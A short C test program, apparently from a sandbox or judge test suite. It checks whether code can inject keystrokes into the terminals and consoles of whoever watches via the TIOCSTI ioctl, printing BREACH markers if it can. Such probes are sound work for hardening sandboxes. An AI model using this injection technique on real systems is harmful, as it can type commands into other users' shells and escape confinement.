/* attack: types into the terminal of whoever watches: TIOCSTI on every terminal there is
 * expect: AC
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
int main(void) {
    const char *names[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/dev/pts/1", "/dev/ttyS0", "/proc/1/fd/0", "/proc/1/fd/1"};
    for (int i = 0; i < 9; i++) {
        int fd = open(names[i], O_RDWR | O_NOCTTY);
        if (fd < 0) continue;
        printf("BREACH opened %s\n", names[i]);
        if (ioctl(fd, TIOCSTI, "x") == 0) puts("BREACH typed");
    }
    for (int fd = 0; fd < 3; fd++)
        if (ioctl(fd, TIOCSTI, "x") == 0) puts("BREACH typed on a stream");
    puts("held");
}
